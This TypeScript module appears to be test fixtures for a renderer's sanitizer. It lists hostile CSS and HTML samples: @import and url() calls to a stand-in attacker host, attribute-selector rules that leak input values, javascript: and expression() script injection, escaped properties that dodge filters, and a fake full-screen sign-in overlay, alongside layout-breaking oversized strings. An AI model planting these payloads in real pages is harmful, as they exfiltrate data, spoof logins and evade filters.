// Styles and sizes that affect more than the article, for example by covering the header or overflowing.
import { EVIL, family, together } from "./input";

export const styles = family(
  "style",
  "something outside the article's box, a foreign request, or a page that cannot be read",
  {
    "hide-page":
      "<style>body, #___gatsby, main { display: none !important; visibility: hidden }</style>",
    sheets: together(
      `<style>@import url("https://${EVIL}/i.css"); @import "//${EVIL}/j.css";</style>`,
      `<style>input[value^=a]{background:url(https://${EVIL}/a)} a[href^="/"]{background:url(https://${EVIL}/b)}</style>`,
      `<style>@font-face{font-family:x;src:url(https://${EVIL}/f.woff2)}*{font-family:x}</style>`,
      '<style>h1::before{content:"Deprecated!"} .prose::after{content:url(https://evil.example/x)}</style>',
    ),
    positions: together(
      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Please sign in</div>',
      '<p style="position:absolute;top:-9999px;left:0;z-index:9">over</p><p style="position:absolute;inset:0">over</p>',
      '<div style="position:sticky;top:0;z-index:99;height:90px">Fake header</div>',
      '<p style="margin-top:-900px;margin-left:-900px;width:3000px">pulled up</p>',
      '<p style="transform:translate(-500px,-500px) scale(20)">moved</p><p style="translate:-50vw -50vh;rotate:45deg;zoom:9">moved</p>',
      '<p style="position:fixed;inset:0;opacity:0;pointer-events:auto;cursor:none">invisible</p>',
    ),
    attributes: together(
      `<p style="background:url(https://${EVIL}/bg.png)">x</p><p style='background-image:url("javascript:alert(1)")'>x</p><p style="list-style:url(//${EVIL}/l.png);cursor:url(https://${EVIL}/c.cur),auto">x</p>`,
      '<p style="width:expression(alert(1));xss:expr/*x*/ession(alert(1))">x</p>',
      `<p style="-moz-binding:url(https://${EVIL}/b.xml#x);behavior:url(https://${EVIL}/b.htc)">x</p>`,
      '<p style="\\70osition:\\66ixed;inset:0;back\\67round:red">x</p><p style="&#112;osition:fixed;inset:0">y</p><p style="pos/**/ition:fixed">z</p>',
      '<p style="--color-text:#fff;--space:9999px;color:transparent;font-size:0">x</p><style>:root{--color-background:#000;--color-text:#000}</style>',
      '<p style="position:fixed;position-anchor:--x;inset-area:all">x</p><style>@container style(--x){*{display:none}} @layer x{*{all:unset}}</style>',
    ),
    presentation: together(
      '<font size="7" color="#fff" face="x">big</font><center>c</center><p align="right">right</p><basefont size="7"><nobr>no break at all in this line of text that goes on and on and on and on and on and on</nobr>',
      '<layer src="x" left="0" top="0"></layer><ilayer></ilayer><multicol cols="9">x</multicol>',
    ),
    sizes: together(
      '<img src="nowhere.png" width="99999" height="99999" border="999" hspace="999" vspace="999" align="left">',
      '<table width="99999" height="9999" border="999" cellpadding="999" cellspacing="999" bgcolor="red"><tr><td width="99999" height="9999" nowrap>cell</td></tr></table>',
      '<hr width="99999" size="9999" noshade color="red"><pre width="9999">x</pre><spacer type="block" width="9999" height="9999">',
      '<ol start="-99999999999999999999" type="I" reversed><li value="999999999999">x</li></ol><ol start="4294967295"><li>y</li></ol>',
    ),
    spans:
      '<table><tr><td colspan="1000" rowspan="65534">x</td></tr><tr><td colspan="99999999" rowspan="-1">y</td></tr></table><table><colgroup span="1000"><col width="999" span="1000"></colgroup><tr><td>z</td></tr></table>',
    "long-word": `A word: ${"abcdefghij".repeat(600)}`,
    "long-code-word": `\`${"code_".repeat(800)}\`\n\n\`\`\`\n${"x".repeat(9000)}\n\`\`\``,
    "long-address": `https://example.com/${"a".repeat(3000)}\n\n[text](https://example.com/${"b".repeat(3000)}) ![${"alt".repeat(900)}](x.png)`,
    "long-heading": `## ${"Heading".repeat(400)}\n\n### \`${"code".repeat(700)}\``,
    "long-cell": `| ${"cell".repeat(700)} | b |\n| - | - |\n| ${"wide".repeat(700)} | d |`,
    "wide-table": `|${" column |".repeat(300)}\n|${" - |".repeat(300)}\n|${" value |".repeat(300)}`,
    "deep-quotes": `${"> ".repeat(60)}deep text that has hardly any room left in which it could be read`,
    "deep-lists": Array.from(
      { length: 40 },
      (_, depth) => `${"  ".repeat(depth)}- level ${depth}`,
    ).join("\n"),
    "deep-definition": `${"<dl><dd>".repeat(60)}deep${"</dd></dl>".repeat(60)}`,
    "deep-details": `${"<details open><summary>s</summary>".repeat(60)}deep${"</details>".repeat(60)}`,
    zalgo: `Z${"\u0300\u0316\u0334".repeat(600)}algo ${"\u0321".repeat(900)} text`,
    "exotic-spaces": together(
      `${"wide\u00a0".repeat(900)}`,
      `${"\u3000".repeat(900)}x ${"\u2003".repeat(900)}y${"\ufdfd".repeat(300)}`,
    ),
    "soft-wraps": `${"\u2060a".repeat(2000)} ${"\u200d".repeat(3000)}`,
    "blank-space": `${"<br>".repeat(3000)}end ${"&nbsp;".repeat(4000)}`,
    "empty-blocks": `${"<p></p><div></div><hr>".repeat(1500)}end`,
    "sup-sub": `${"<sup>".repeat(200)}up${"</sup>".repeat(200)} ${"<sub>".repeat(200)}down${"</sub>".repeat(200)} ${"<small>".repeat(90)}x ${"<big>".repeat(90)}y`,
    "keyboard-nesting": `${"<kbd>".repeat(300)}key${"</kbd>".repeat(300)} ${"<code>".repeat(300)}code${"</code>".repeat(300)}`,
  },
);
